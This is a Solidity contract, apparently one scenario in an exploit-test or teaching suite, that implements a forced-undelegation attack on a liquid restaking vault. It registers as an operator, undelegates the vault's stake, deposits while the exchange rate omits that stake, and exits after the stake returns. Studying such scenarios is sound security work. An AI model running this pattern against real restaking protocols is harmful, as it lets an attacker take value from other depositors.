// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {IDelegationManager} from "../../3-restaking/interfaces/IDelegationManager.sol";
import {IRestaker} from "../../5-lrt/interfaces/IRestaker.sol";
import {Exploit, Scene} from "../Exploit.sol";

/// @title An operator who sends the stake away and buys what is left
/// @notice Undelegates the vault, deposits while its stake is missing from the rate, and leaves once it is back.
contract ForcedUndelegation is Exploit {
    uint32 private constant ALLOCATION_DELAY_BLOCKS = 1_000;

    constructor(Scene memory scene) payable Exploit(scene) {}

    /// @inheritdoc Exploit
    function turn(uint256 number) external override {
        IDelegationManager core = IDelegationManager(others[0]);
        if (number == 0) core.registerAsOperator(address(0), ALLOCATION_DELAY_BLOCKS, "");
        if (number == 1) {
            IRestaker restaker = IRestaker(others[1]);
            core.undelegate(restaker.slotAt(restaker.slotCount() - 1).delegator);
            _deposit(address(this).balance);
        }
        if (number == 2) _exit(_shares());
    }
}
